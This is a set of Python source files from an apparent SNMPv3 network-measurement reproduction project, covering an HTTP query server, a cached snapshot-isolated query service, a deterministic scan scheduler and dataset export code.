from urllib.parse import parse_qs, urlparse

from repro.service.query import QueryService, RateLimitExceeded, ServiceError

__all__ = ["ServiceHttpServer"]


class _Handler(BaseHTTPRequestHandler):
    """Request handler bound to one :class:`QueryService` via the server."""

    protocol_version = "HTTP/1.1"
    service: QueryService  # injected by ServiceHttpServer

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002
        """Silence per-request stderr logging (metrics cover it)."""

    def _send_json(self, status: int, payload: dict) -> None:
        body = json.dumps(payload, sort_keys=True).encode("utf-8")
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self) -> None:  # noqa: N802 - http.server naming
        parsed = urlparse(self.path)
        params = parse_qs(parsed.query)
        service = self.service
        if parsed.path == "/metrics":
            self._send_json(200, service.metrics_summary())
            return
        if parsed.path == "/healthz":
            self._send_json(
                200, {"status": "ok", "generation": service.generation}
            )
            return
        if not parsed.path.startswith("/v1/"):
            self._send_json(404, {"error": f"no such path {parsed.path!r}"})
            return
        endpoint = parsed.path[len("/v1/"):]
        argument = params.get("arg", [None])[0]
        client = params.get("client", [self.client_address[0]])[0]
        try:
            response = service.request(endpoint, argument, client=client)
        except RateLimitExceeded as error:
            self._send_json(429, {"error": str(error)})
            return
        except ServiceError as error:
            status = 404 if "unknown endpoint" in str(error) else 400
            self._send_json(status, {"error": str(error)})
            return
        self._send_json(
            200,
            {
                "endpoint": response.endpoint,
                "generation": response.generation,
                "cached": response.cached,
                "value": response.value,
            },
        )


class ServiceHttpServer:
    """Lifecycle wrapper: bind, serve (inline or background), close.

    All constructor arguments are keyword-only.  ``port=0`` binds an
    ephemeral port (read it back from :attr:`address`).
    """

    def __init__(
        self,
        *,
        service: QueryService,
        host: str = "127.0.0.1",
        port: int = 0,
    ) -> None:
        handler = type("_BoundHandler", (_Handler,), {"service": service})
        self._server = ThreadingHTTPServer((host, port), handler)
        self._server.daemon_threads = True
        self._thread: "threading.Thread | None" = None
        self._serving = False

    @property
    def address(self) -> "tuple[str, int]":
        host, port = self._server.server_address[:2]
        return str(host), int(port)

    def serve_forever(self) -> None:
        """Serve on the calling thread until :meth:`close` (CLI mode)."""
        self._serving = True
        try:
            self._server.serve_forever(poll_interval=0.05)
        finally:
            self._serving = False

    def start(self) -> None:
        """Serve on a daemon background thread (test/bench mode)."""
        if self._thread is not None:
            return
        self._serving = True
        self._thread = threading.Thread(
            target=self._server.serve_forever,
            kwargs={"poll_interval": 0.05},
            daemon=True,
        )
        self._thread.start()

    def close(self) -> None:
        """Stop serving and release the listening socket (idempotent)."""
        if self._serving or self._thread is not None:
            self._server.shutdown()
            self._serving = False
        thread = self._thread
        if thread is not None:
            thread.join(timeout=5.0)
            self._thread = None
        self._server.server_close()

    def __enter__(self) -> "ServiceHttpServer":
        return self

    def __exit__(self, *exc_info: object) -> None:
        self.close()
