"""Concurrent, snapshot-isolated query serving over a :class:`Store`.

The :class:`QueryService` is the read path of the always-on observatory:
many clients ask longitudinal questions (census rollups, timelines,
address histories) while a scheduler keeps ingesting new rounds and
compacting old ones into the same store directory.  Three guarantees
hold at any interleaving:

* **Snapshot isolation** — every response is pinned to one manifest
  generation; a reader never observes a torn mix of two generations.
  Segment files are immutable and their names embed the generation that
  wrote them, so one atomic manifest read plus reads of the files it
  names *is* a consistent snapshot.  The only hazard is compaction
  deleting an obsolete part mid-query; the service catches that, adopts
  the new manifest via :meth:`Store.refresh`, and re-runs the query
  against the newer snapshot (bounded retries).
* **Cache coherence** — results are cached in an LRU keyed on
  ``(generation, endpoint, argument)``.  Ingest and compaction bump the
  generation, so stale entries can never be served; they simply age out
  of the LRU.
* **Overload shedding** — per-client token buckets (the shared
  :mod:`repro.net.ratelimit` machinery) refuse excess requests with
  :class:`RateLimitExceeded` instead of queueing them.

Determinism: the service reads no wall clock — latencies come from the
injected :class:`~repro.clock.Clock` (``perf_counter`` by default, a
:class:`~repro.clock.ManualClock` under test), and rate-limit decisions
advance on that same clock.
"""

from __future__ import annotations

import os
import threading
from collections import OrderedDict
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

from repro.clock import Clock, PerfCounterClock
from repro.net.ratelimit import RateLimit, TokenBucket
from repro.store.query import StoreQuery
from repro.store.store import MANIFEST_NAME, Store, StoreError

__all__ = [
    "DEFAULT_CACHE_ENTRIES",
    "ENDPOINTS",
    "EndpointMetrics",
    "QueryService",
    "RateLimitExceeded",
    "ServiceError",
    "ServiceResponse",
]

#: Default LRU capacity (distinct ``(generation, endpoint, arg)`` keys).
DEFAULT_CACHE_ENTRIES = 512

#: Bounded re-runs of one query when compaction deletes a segment from
#: under it; each retry adopts the newer manifest first.
SNAPSHOT_RETRY_ATTEMPTS = 8

#: Latency samples kept per endpoint (newest win; the quantiles are over
#: this window, bounding the service's memory at any uptime).
LATENCY_WINDOW = 4096


class ServiceError(ValueError):
    """Raised on unknown endpoints or invalid request arguments."""


class RateLimitExceeded(ServiceError):
    """Raised when a client's token bucket is empty (the request is shed)."""


@dataclass(frozen=True)
class ServiceResponse:
    """One served query: the pinned generation plus the JSON-safe value."""

    endpoint: str
    generation: int
    value: object
    cached: bool
    latency: float


@dataclass
class EndpointMetrics:
    """Per-endpoint serving counters plus a bounded latency window."""

    requests: int = 0
    hits: int = 0
    misses: int = 0
    shed: int = 0
    errors: int = 0
    latencies: list[float] = field(default_factory=list)

    def record(self, latency: float) -> None:
        window = self.latencies
        window.append(latency)
        if len(window) > LATENCY_WINDOW:
            del window[: len(window) - LATENCY_WINDOW]

    def quantile(self, q: float) -> float:
        if not self.latencies:
            return 0.0
        ordered = sorted(self.latencies)
        position = min(len(ordered) - 1, int(q * len(ordered)))
        return ordered[position]

    @property
    def hit_ratio(self) -> float:
        served = self.hits + self.misses
        return (self.hits / served) if served else 0.0

    def to_dict(self) -> dict:
        return {
            "requests": self.requests,
            "hits": self.hits,
            "misses": self.misses,
            "hit_ratio": round(self.hit_ratio, 4),
            "shed": self.shed,
            "errors": self.errors,
            "p50_ms": round(self.quantile(0.50) * 1e3, 3),
            "p99_ms": round(self.quantile(0.99) * 1e3, 3),
        }


def _serialize_observation(stored: object) -> dict:
    """JSON-safe form of one :class:`StoredObservation`."""
    obs = stored.observation  # type: ignore[attr-defined]
    engine = obs.engine_id
    return {
        "round": stored.round_id,  # type: ignore[attr-defined]
        "label": stored.label,  # type: ignore[attr-defined]
        "address": str(obs.address),
        "recv_time": obs.recv_time,
        "engine_id": engine.raw.hex() if engine is not None else None,
        "engine_boots": obs.engine_boots,
        "engine_time": obs.engine_time,
        "response_count": obs.response_count,
    }


def _endpoint_rounds(store: Store, query: StoreQuery, arg: "str | None") -> object:
    return store.rounds()


def _endpoint_stats(store: Store, query: StoreQuery, arg: "str | None") -> object:
    return store.stats()


def _endpoint_device_count(
    store: Store, query: StoreQuery, arg: "str | None"
) -> object:
    return query.device_count


def _endpoint_engine_ids(
    store: Store, query: StoreQuery, arg: "str | None"
) -> object:
    return [raw.hex() for raw in query.engine_ids()]


def _endpoint_vendor_census(
    store: Store, query: StoreQuery, arg: "str | None"
) -> object:
    return [[vendor, count] for vendor, count in query.vendor_census()]


def _endpoint_enterprise_census(
    store: Store, query: StoreQuery, arg: "str | None"
) -> object:
    return [[pen, count] for pen, count in query.enterprise_census()]


def _endpoint_oui_census(
    store: Store, query: StoreQuery, arg: "str | None"
) -> object:
    return [[oui, count] for oui, count in query.oui_census()]


def _endpoint_round_summary(
    store: Store, query: StoreQuery, arg: "str | None"
) -> object:
    if arg is None:
        raise ServiceError("round-summary requires a round id argument")
    try:
        round_id = int(arg)
    except ValueError:
        raise ServiceError(f"invalid round id {arg!r}") from None
    return query.round_summary(round_id)


def _endpoint_history(
    store: Store, query: StoreQuery, arg: "str | None"
) -> object:
    if arg is None:
        raise ServiceError("history requires an address argument")
    return [_serialize_observation(s) for s in query.history(arg)]


def _endpoint_reboot_events(
    store: Store, query: StoreQuery, arg: "str | None"
) -> object:
    return [
        {
            "engine_id": event.engine_id.hex(),
            "round": event.round_id,
            "label": event.label,
            "kind": event.kind,
            "boots_before": event.boots_before,
            "boots_after": event.boots_after,
            "reboot_time": event.reboot_time,
        }
        for event in query.reboot_events()
    ]


def _endpoint_timeline_summary(
    store: Store, query: StoreQuery, arg: "str | None"
) -> object:
    return query.timeline_summary()


def _endpoint_uptime_ecdf(
    store: Store, query: StoreQuery, arg: "str | None"
) -> object:
    return query.uptime_ecdf_inputs()


def _endpoint_integrity(
    store: Store, query: StoreQuery, arg: "str | None"
) -> object:
    """Full physical/logical audit at one pinned generation.

    Counts every scan's rows across its segment parts and checks them
    against the manifest totals.  Under concurrent ingest + compaction
    this is the torn-read detector: a reader holding a mix of two
    generations (or reading a half-deleted catalogue) cannot pass it.
    The bench asserts ``consistent`` on every sample.
    """
    scans = 0
    rows = 0
    for round_id in store.rounds():
        for label in store.labels(round_id):
            info = store.scan_info(round_id, label)
            counted = sum(
                1
                for stored in store.observations(round_id=round_id, label=label)
            )
            if counted != info["rows"]:
                raise StoreError(
                    f"round {round_id} scan {label!r}: segment rows "
                    f"{counted} != manifest rows {info['rows']}"
                )
            scans += 1
            rows += counted
    return {"scans": scans, "rows": rows, "consistent": True}


#: The service's endpoint registry: name -> (store, query, argument) fn.
ENDPOINTS: "dict[str, Callable[[Store, StoreQuery, str | None], object]]" = {
    "rounds": _endpoint_rounds,
    "stats": _endpoint_stats,
    "device-count": _endpoint_device_count,
    "engine-ids": _endpoint_engine_ids,
    "vendor-census": _endpoint_vendor_census,
    "enterprise-census": _endpoint_enterprise_census,
    "oui-census": _endpoint_oui_census,
    "round-summary": _endpoint_round_summary,
    "history": _endpoint_history,
    "reboot-events": _endpoint_reboot_events,
    "timeline-summary": _endpoint_timeline_summary,
    "uptime-ecdf": _endpoint_uptime_ecdf,
    "integrity": _endpoint_integrity,
}


class QueryService:
    """Thread-safe serving layer over one store directory.

    All constructor arguments are keyword-only.  ``store`` may be a live
    :class:`Store` or a path (opened on the spot); the service refreshes
    its view of the manifest before every request, so a store written by
    another object — or another process — is served without restarts.

    Concurrency model: cache hits are served under a short lock; cold
    reads additionally serialize on the store lock (the ``Store`` object
    itself is not thread-safe).  Snapshot isolation comes from the
    store's immutable segments plus refresh-and-retry on the compaction
    delete window; see the module docstring.
    """

    def __init__(
        self,
        *,
        store: "Store | str | Path",
        cache_entries: int = DEFAULT_CACHE_ENTRIES,
        rate_limit: "RateLimit | None" = None,
        clock: "Clock | None" = None,
    ) -> None:
        if cache_entries < 1:
            raise ServiceError(
                f"cache_entries must be positive, got {cache_entries}"
            )
        if isinstance(store, (str, Path)):
            store = Store(root=store)
        self._store = store
        self._query = StoreQuery(store=store)
        self._manifest_path = store.root / MANIFEST_NAME
        self._cache_entries = cache_entries
        self._rate_limit = rate_limit
        self._clock: Clock = clock if clock is not None else PerfCounterClock()
        self._cache: "OrderedDict[tuple[str, object, object], object]" = (
            OrderedDict()
        )
        self._buckets: dict[str, TokenBucket] = {}
        self._metrics: dict[str, EndpointMetrics] = {}
        self._lock = threading.Lock()
        self._store_lock = threading.Lock()
        self._manifest_signature = self._stat_signature()

    # -- introspection -----------------------------------------------------

    @property
    def store(self) -> Store:
        return self._store

    @property
    def generation(self) -> int:
        """The generation the next request would be pinned to."""
        with self._store_lock:
            self._refresh_if_stale()
            return self._store.generation

    def endpoints(self) -> "list[str]":
        return sorted(ENDPOINTS)

    # -- serving -----------------------------------------------------------

    def request(
        self,
        endpoint: str,
        argument: "str | None" = None,
        *,
        client: str = "default",
    ) -> ServiceResponse:
        """Serve one query, pinned to a single manifest generation.

        Raises :class:`ServiceError` for unknown endpoints or bad
        arguments and :class:`RateLimitExceeded` when the client's
        bucket is empty.
        """
        handler = ENDPOINTS.get(endpoint)
        if handler is None:
            known = ", ".join(self.endpoints())
            raise ServiceError(f"unknown endpoint {endpoint!r} (known: {known})")
        started = self._clock.now()
        with self._lock:
            metrics = self._metrics.get(endpoint)
            if metrics is None:
                metrics = self._metrics[endpoint] = EndpointMetrics()
            metrics.requests += 1
            if not self._admit(client, started):
                metrics.shed += 1
                raise RateLimitExceeded(
                    f"client {client!r} exceeded the request rate limit"
                )
        try:
            generation, value, cached = self._serve(handler, endpoint, argument)
        except ServiceError:
            with self._lock:
                metrics.errors += 1
            raise
        latency = self._clock.now() - started
        with self._lock:
            if cached:
                metrics.hits += 1
            else:
                metrics.misses += 1
            metrics.record(latency)
        return ServiceResponse(
            endpoint=endpoint,
            generation=generation,
            value=value,
            cached=cached,
            latency=latency,
        )

    def _serve(
        self,
        handler: "Callable[[Store, StoreQuery, str | None], object]",
        endpoint: str,
        argument: "str | None",
    ) -> "tuple[int, object, bool]":
        last_error: "Exception | None" = None
        for _ in range(SNAPSHOT_RETRY_ATTEMPTS):
            with self._store_lock:
                self._refresh_if_stale()
                generation = self._store.generation
                key = (endpoint, argument, generation)
                with self._lock:
                    if key in self._cache:
                        self._cache.move_to_end(key)
                        return generation, self._cache[key], True
                try:
                    value = handler(self._store, self._query, argument)
                except (FileNotFoundError, StoreError) as error:
                    # Compaction deleted an obsolete part from under this
                    # snapshot; adopt the newer manifest and re-run.  If
                    # nothing newer exists the failure is the caller's
                    # (e.g. a nonexistent round), not a snapshot hazard.
                    last_error = error
                    if not self._store.refresh():
                        raise ServiceError(str(error)) from error
                    self._manifest_signature = self._stat_signature()
                    continue
                with self._lock:
                    self._cache[key] = value
                    self._cache.move_to_end(key)
                    while len(self._cache) > self._cache_entries:
                        self._cache.popitem(last=False)
                return generation, value, False
        raise ServiceError(
            f"query {endpoint!r} could not pin a stable snapshot after "
            f"{SNAPSHOT_RETRY_ATTEMPTS} attempts"
        ) from last_error

    # -- internals ---------------------------------------------------------

    def _stat_signature(self) -> "tuple[int, int, int] | None":
        """Cheap change detector for the manifest file (no reads)."""
        try:
            stat = os.stat(self._manifest_path)
        except FileNotFoundError:
            return None
        return (stat.st_ino, stat.st_size, stat.st_mtime_ns)

    def _refresh_if_stale(self) -> None:
        """Adopt a concurrently swapped manifest (store-lock held)."""
        signature = self._stat_signature()
        if signature != self._manifest_signature:
            self._store.refresh()
            self._manifest_signature = signature

    def _admit(self, client: str, now: float) -> bool:
        if self._rate_limit is None:
            return True
        bucket = self._buckets.get(client)
        if bucket is None:
            bucket = self._buckets[client] = TokenBucket(self._rate_limit, now)
        return bucket.admit(now)

    # -- metrics -----------------------------------------------------------

    def metrics_summary(self) -> dict:
        """JSON-safe per-endpoint counters plus service-wide rollups."""
        with self._lock:
            per_endpoint = {
                name: metrics.to_dict()
                for name, metrics in sorted(self._metrics.items())
            }
            requests = sum(m.requests for m in self._metrics.values())
            hits = sum(m.hits for m in self._metrics.values())
            misses = sum(m.misses for m in self._metrics.values())
            shed = sum(m.shed for m in self._metrics.values())
            cache_size = len(self._cache)
        served = hits + misses
        return {
            "requests": requests,
            "hits": hits,
            "misses": misses,
            "hit_ratio": round((hits / served) if served else 0.0, 4),
            "shed": shed,
            "cache_entries": cache_size,
            "endpoints": per_endpoint,
        }
