"""The continuous-scan scheduler: recurring sweeps plus churn re-probes.

The daemon half of the observatory.  A priority queue keyed on next-due
virtual time drives two kinds of recurring jobs over one
:class:`~repro.api.Session` and its attached store:

* **sweep** — one full four-scan campaign round
  (:meth:`Session.run_campaign`), auto-ingested as the store's next
  round;
* **reprobe** — a targeted scan of exactly the addresses whose device
  timelines showed recent churn: members of engines that rebooted in
  the latest folded round, plus addresses the latest alias diff marked
  born or moved.  Ingested as its own (single-scan-per-family) round
  under ``reprobe-v4``/``reprobe-v6`` labels.

Determinism is the design center: the loop reads time only from its
injected :class:`~repro.clock.Clock`, per-job jitter comes from a seeded
RNG keyed on ``(seed, job, firing)`` via :func:`repro.topology.lazy.mix`,
and under a :class:`~repro.clock.ManualClock` waiting *is* advancing the
clock — two runs with the same seed produce the same job order, the same
rounds and byte-identical segments (asserted by
``tests/service/test_scheduler.py`` over segment fingerprints).

Operational behavior:

* **overlap suppression** — a job that overruns its period does not
  queue a backlog; missed firings are skipped (and counted) and the job
  rejoins the schedule at its next future slot.
* **crash-safe resume** — the store manifest is the checkpoint.  On
  construction the scheduler counts complete sweep rounds (all four
  campaign labels present) and reprobe rounds already ingested, and
  resumes firing numbers from there; partially ingested rounds are
  surfaced in :attr:`incomplete_rounds` and left untouched (round ids
  are never reused).
* **graceful drain** — :meth:`request_stop` (wired to SIGTERM/SIGINT by
  the CLI) lets the in-flight job finish, then exits the loop.
"""

from __future__ import annotations

import heapq
import random
from dataclasses import dataclass
from typing import TYPE_CHECKING, Callable

from repro.clock import Clock, ManualClock
from repro.net.addresses import IPAddress
from repro.scanner.campaign import SCAN_LABELS
from repro.store.segment import segment_fingerprint
from repro.store.store import Store
from repro.topology import timeline
from repro.topology.lazy import mix

if TYPE_CHECKING:  # pragma: no cover - import cycle guard, types only
    from repro.api import Session

__all__ = [
    "DEFAULT_JOBS",
    "REPROBE_LABEL_PREFIX",
    "JobRun",
    "JobSpec",
    "ServiceScheduler",
]

#: Label prefix distinguishing re-probe rounds from campaign rounds.
REPROBE_LABEL_PREFIX = "reprobe"

#: Virtual-time anchor for re-probe scans: after the campaign window.
_REPROBE_EPOCH = timeline.SCAN2_V4_START + timeline.SCAN2_V4_DURATION


@dataclass(frozen=True, kw_only=True)
class JobSpec:
    """One recurring job: what to run and when.

    ``period``/``offset``/``jitter`` are seconds on the scheduler's
    clock.  Jitter is one-sided — firing ``k`` is due at
    ``epoch + offset + k * period + uniform(0, jitter)`` with the
    uniform draw seeded by ``(seed, name, k)``, so replays under the
    same seed reproduce the exact schedule.
    """

    name: str
    kind: str
    period: float
    offset: float = 0.0
    jitter: float = 0.0

    def __post_init__(self) -> None:
        if self.kind not in ("sweep", "reprobe"):
            raise ValueError(
                f"job kind must be 'sweep' or 'reprobe', got {self.kind!r}"
            )
        if self.period <= 0:
            raise ValueError(f"period must be > 0, got {self.period}")
        if self.jitter < 0 or self.offset < 0:
            raise ValueError("offset and jitter must be >= 0")


#: The stock observatory schedule: daily sweeps, churn re-probes between.
DEFAULT_JOBS: "tuple[JobSpec, ...]" = (
    JobSpec(name="sweep", kind="sweep", period=86_400.0, jitter=600.0),
    JobSpec(
        name="reprobe",
        kind="reprobe",
        period=21_600.0,
        offset=43_200.0,
        jitter=120.0,
    ),
)


@dataclass(frozen=True)
class JobRun:
    """One completed firing, with enough detail to replay-compare runs."""

    job: str
    kind: str
    firing: int
    due: float
    started: float
    finished: float
    round_id: "int | None"
    rows: int
    targets: int
    skipped_firings: int
    fingerprint: str

    def to_dict(self) -> dict:
        return {
            "job": self.job,
            "kind": self.kind,
            "firing": self.firing,
            "due": self.due,
            "started": self.started,
            "finished": self.finished,
            "round": self.round_id,
            "rows": self.rows,
            "targets": self.targets,
            "skipped_firings": self.skipped_firings,
            "fingerprint": self.fingerprint,
        }


class ServiceScheduler:
    """Deterministic event loop over a session + store.

    All constructor arguments are keyword-only.  ``session`` must carry
    an attached store (it is the checkpoint and the serving surface).
    ``clock`` defaults to a :class:`~repro.clock.ManualClock` starting at
    zero — the fully simulated mode; for wall-clock deployments inject a
    :class:`~repro.clock.PerfCounterClock` together with a ``waiter``
    (e.g. ``time.sleep``) that blocks the loop between jobs.
    """

    def __init__(
        self,
        *,
        session: "Session",
        jobs: "tuple[JobSpec, ...] | list[JobSpec] | None" = None,
        seed: "int | None" = None,
        clock: "Clock | None" = None,
        waiter: "Callable[[float], object] | None" = None,
    ) -> None:
        store = session.store
        if store is None:
            raise ValueError(
                "ServiceScheduler requires a Session with a store attached"
            )
        self._session = session
        self._store: Store = store
        self._jobs = tuple(jobs) if jobs is not None else DEFAULT_JOBS
        if not self._jobs:
            raise ValueError("at least one job is required")
        names = [job.name for job in self._jobs]
        if len(set(names)) != len(names):
            raise ValueError(f"job names must be unique, got {names}")
        if seed is None:
            seed = session.config.seed
        self._seed = int(seed)
        self._clock: Clock = clock if clock is not None else ManualClock(0.0)
        self._waiter = waiter
        self._epoch = self._clock.now()
        self._stop_requested = False
        self.runs: list[JobRun] = []
        #: Partially ingested rounds found at startup (crash leftovers).
        self.incomplete_rounds: list[int] = []
        self._firings = self._resume_counters()
        self._heap: "list[tuple[float, int, int]]" = []
        for index, job in enumerate(self._jobs):
            firing = self._firings[job.name]
            heapq.heappush(
                self._heap, (self._due(job, firing), index, firing)
            )

    # -- schedule arithmetic -----------------------------------------------

    def _due(self, job: JobSpec, firing: int) -> float:
        jitter = 0.0
        if job.jitter > 0.0:
            rng = random.Random(mix(self._seed, "svc-jitter", job.name, firing))
            jitter = rng.uniform(0.0, job.jitter)
        return self._epoch + job.offset + firing * job.period + jitter

    def _resume_counters(self) -> "dict[str, int]":
        """Rebuild firing counters from the store manifest (the checkpoint).

        A sweep round is complete when all four campaign labels are
        present; a reprobe round when any ``reprobe-*`` label is.  Rounds
        matching neither were interrupted mid-ingest: they are reported,
        never deleted, and never recounted (fresh rounds get fresh ids).
        """
        sweeps = 0
        reprobes = 0
        store = self._store
        for round_id in store.rounds():
            labels = set(store.labels(round_id))
            if labels.issuperset(SCAN_LABELS):
                sweeps += 1
            elif any(
                label.startswith(REPROBE_LABEL_PREFIX) for label in labels
            ):
                reprobes += 1
            else:
                self.incomplete_rounds.append(round_id)
        completed = {"sweep": sweeps, "reprobe": reprobes}
        return {job.name: completed[job.kind] for job in self._jobs}

    # -- loop --------------------------------------------------------------

    def request_stop(self) -> None:
        """Graceful drain: finish the in-flight job, then exit the loop."""
        self._stop_requested = True

    def _wait_until(self, due: float) -> None:
        now = self._clock.now()
        if due <= now:
            return
        if isinstance(self._clock, ManualClock):
            self._clock.advance(due - now)
            return
        if self._waiter is None:
            raise ValueError(
                "a non-manual clock requires a waiter callable "
                "(e.g. time.sleep) to block between jobs"
            )
        self._waiter(due - now)

    def run(
        self,
        *,
        max_runs: "int | None" = None,
        until: "float | None" = None,
    ) -> "list[JobRun]":
        """Drive the loop until a bound is hit or a stop is requested.

        ``max_runs`` bounds completed firings this call; ``until`` stops
        before any job whose due time exceeds it (clock time).  Returns
        the :class:`JobRun` records appended by this call.
        """
        if max_runs is None and until is None:
            raise ValueError("bound the loop with max_runs and/or until")
        completed = 0
        before = len(self.runs)
        while self._heap and not self._stop_requested:
            if max_runs is not None and completed >= max_runs:
                break
            due, index, firing = self._heap[0]
            if until is not None and due > until:
                break
            heapq.heappop(self._heap)
            job = self._jobs[index]
            self._wait_until(due)
            started = self._clock.now()
            round_id, rows, targets, fingerprint = self._execute(job, firing)
            finished = self._clock.now()
            self._firings[job.name] = firing + 1
            # Overlap suppression: drop firings whose slot passed while
            # this one ran; rejoin at the next strictly future slot.
            next_firing = firing + 1
            skipped = 0
            while True:
                next_due = self._due(job, next_firing)
                if next_due >= finished:
                    break
                next_firing += 1
                skipped += 1
            self.runs.append(
                JobRun(
                    job=job.name,
                    kind=job.kind,
                    firing=firing,
                    due=due,
                    started=started,
                    finished=finished,
                    round_id=round_id,
                    rows=rows,
                    targets=targets,
                    skipped_firings=skipped,
                    fingerprint=fingerprint,
                )
            )
            heapq.heappush(self._heap, (next_due, index, next_firing))
            completed += 1
        return self.runs[before:]

    # -- job execution -----------------------------------------------------

    def _execute(
        self, job: JobSpec, firing: int
    ) -> "tuple[int | None, int, int, str]":
        if job.kind == "sweep":
            return self._run_sweep()
        return self._run_reprobe(firing)

    def _run_sweep(self) -> "tuple[int, int, int, str]":
        store = self._store
        round_id = store.next_round_id()
        result = self._session.run_campaign(round_id=round_id)
        rows = sum(len(scan.observations) for scan in result.scans.values())
        targets = sum(scan.targets_probed for scan in result.scans.values())
        fingerprint = segment_fingerprint(store.segment_paths(round_id))
        return round_id, rows, targets, fingerprint.hex()

    def _churn_targets(self) -> "list[IPAddress]":
        """Addresses worth a re-probe: latest-round reboots + churn."""
        acc = self._store.timelines()
        if not acc.folded_rounds:
            return []
        last = acc.folded_rounds[-1]
        targets: set[IPAddress] = set()
        for device in acc.timelines.values():
            members = device.members.get(last)
            if members and any(
                event.round_id == last for event in device.reboot_events
            ):
                targets.update(members)
        for diff in acc.diffs:
            if diff.next_round == last:
                targets.update(diff.born)
                targets.update(diff.moved)
        return sorted(targets, key=lambda a: (a.version, int(a)))

    def _run_reprobe(self, firing: int) -> "tuple[int, int, int, str]":
        """Scan the churned population; always ingests a round (possibly
        empty) so the manifest checkpoint counts this firing."""
        store = self._store
        targets = self._churn_targets()
        round_id = store.next_round_id()
        # Virtual probe time advances per firing so the world keeps aging
        # deterministically between re-probes.
        start = _REPROBE_EPOCH + 3_600.0 * (firing + 1)
        rows = 0
        ingested = False
        for version in (4, 6):
            family = [a for a in targets if a.version == version]
            if not family:
                continue
            scan = self._session.run_targeted(
                family,
                label=f"{REPROBE_LABEL_PREFIX}-v{version}",
                ip_version=version,
                start_time=start,
            )
            store.ingest_result(scan, round_id=round_id)
            ingested = True
            rows += len(scan.observations)
        if not ingested:
            # A quiet network still checkpoints: an empty reprobe scan
            # keeps resume counters exact across crashes.
            store.ingest_scan(
                [],
                round_id=round_id,
                label=f"{REPROBE_LABEL_PREFIX}-v4",
                ip_version=4,
                started_at=start,
                finished_at=start,
            )
        fingerprint = segment_fingerprint(store.segment_paths(round_id))
        return round_id, rows, len(targets), fingerprint.hex()

    # -- reporting ---------------------------------------------------------

    def summary(self) -> dict:
        """JSON-safe roll-up of everything this scheduler instance ran."""
        per_job: dict[str, dict] = {}
        for job in self._jobs:
            runs = [run for run in self.runs if run.job == job.name]
            per_job[job.name] = {
                "kind": job.kind,
                "period": job.period,
                "completed": len(runs),
                "next_firing": self._firings[job.name],
                "skipped_firings": sum(r.skipped_firings for r in runs),
                "rows": sum(r.rows for r in runs),
            }
        return {
            "seed": self._seed,
            "epoch": self._epoch,
            "clock": self._clock.now(),
            "runs": len(self.runs),
            "incomplete_rounds": list(self.incomplete_rounds),
            "jobs": per_job,
        }
