"""Dataset import/export.

The paper's final contribution is "sharing our datasets and analysis
scripts".  This package serializes every artifact of a measurement run
into stable, line-oriented formats a downstream researcher can consume
without this library:

* scan observations → JSON Lines (one responsive IP per line),
* alias sets → JSON Lines (one set per line) or two-column CSV,
* vendor census → CSV,
and the corresponding loaders, all round-trip tested.
"""

from repro.io.exports import (
    ScanJsonlWriter,
    export_alias_sets_csv,
    export_alias_sets_jsonl,
    export_scan_jsonl,
    export_vendor_census_csv,
    iter_scan_jsonl,
    load_alias_sets_jsonl,
    load_scan_jsonl,
    read_scan_header,
)

__all__ = [
    "ScanJsonlWriter",
    "export_alias_sets_csv",
    "export_alias_sets_jsonl",
    "export_scan_jsonl",
    "export_vendor_census_csv",
    "iter_scan_jsonl",
    "load_alias_sets_jsonl",
    "load_scan_jsonl",
    "read_scan_header",
]
