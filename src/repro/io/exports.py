"""Serializers and loaders for measurement artifacts.

Formats are deliberately boring: JSON Lines for record streams (engine
IDs hex-encoded), CSV for tabular summaries.  Loaders reconstruct the
full Python objects, and every exporter/loader pair round-trips — see
``tests/io``.
"""

from __future__ import annotations

import csv
import ipaddress
import json
from pathlib import Path
from typing import Iterable, Iterator

from repro.alias.sets import AliasSets
from repro.scanner.records import ScanObservation, ScanResult
from repro.snmp.engine_id import EngineId

#: Schema version stamped into every JSONL header line.
FORMAT_VERSION = 1

#: Slack appended to the provisional header so the incremental writer can
#: rewrite it in place with the final counts (JSON tolerates the padding).
_HEADER_SLACK = 48


# -- scan observations ----------------------------------------------------------


def _scan_header(
    *,
    label: str,
    ip_version: int,
    started_at: float,
    finished_at: float,
    targets_probed: int,
    responsive: int,
) -> str:
    return json.dumps(
        {
            "format": "snmpv3-scan",
            "version": FORMAT_VERSION,
            "label": label,
            "ip_version": ip_version,
            "started_at": started_at,
            "finished_at": finished_at,
            "targets_probed": targets_probed,
            "responsive": responsive,
        }
    )


def _observation_row(obs: ScanObservation) -> str:
    return json.dumps(
        {
            "ip": str(obs.address),
            "recv_time": obs.recv_time,
            "engine_id": obs.engine_id.raw.hex() if obs.engine_id else None,
            "engine_boots": obs.engine_boots,
            "engine_time": obs.engine_time,
            "responses": obs.response_count,
            "wire_bytes": obs.wire_bytes,
        }
    )


def _row_observation(row: dict) -> ScanObservation:
    engine_hex = row["engine_id"]
    return ScanObservation(
        address=ipaddress.ip_address(row["ip"]),
        recv_time=row["recv_time"],
        engine_id=(
            EngineId(bytes.fromhex(engine_hex)) if engine_hex is not None else None
        ),
        engine_boots=row["engine_boots"],
        engine_time=row["engine_time"],
        response_count=row["responses"],
        wire_bytes=row["wire_bytes"],
    )


def export_scan_jsonl(scan: ScanResult, path: "str | Path") -> int:
    """Write one JSON line per responsive IP; returns the record count.

    The first line is a header object describing the scan (label, family,
    schedule, probe counts) so the file is self-describing.
    """
    path = Path(path)
    records = 0
    with path.open("w", encoding="utf-8") as handle:
        handle.write(
            _scan_header(
                label=scan.label,
                ip_version=scan.ip_version,
                started_at=scan.started_at,
                finished_at=scan.finished_at,
                targets_probed=scan.targets_probed,
                responsive=scan.responsive_count,
            )
            + "\n"
        )
        for obs in sorted(scan.observations.values(), key=lambda o: int(o.address)):
            handle.write(_observation_row(obs) + "\n")
            records += 1
    return records


class ScanJsonlWriter:
    """Incremental scan exporter: one observation (or batch) at a time.

    Streams rows to disk as they arrive so a scan never has to be
    materialized before export.  A provisional header is written first
    (space-padded — JSON parsers skip trailing whitespace) and rewritten
    in place on :meth:`close` with the final ``finished_at``,
    ``targets_probed`` and ``responsive`` counts, so the finished file is
    self-describing exactly like :func:`export_scan_jsonl` output and
    loads with the same readers.  Rows keep arrival order; readers do not
    depend on ordering.  Usable as a context manager.
    """

    def __init__(
        self,
        path: "str | Path",
        *,
        label: str,
        ip_version: int,
        started_at: float,
    ) -> None:
